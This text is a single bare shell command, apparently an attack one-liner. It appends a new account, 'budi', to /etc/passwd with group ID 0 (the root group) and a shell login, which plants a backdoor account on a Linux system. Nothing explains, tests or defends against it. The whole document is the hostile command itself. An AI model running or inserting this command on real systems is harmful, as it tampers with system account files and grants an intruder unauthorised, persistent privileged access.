echo 'budi:x:1500:0::/home/budi:/bin/sh' >>/etc/passwd
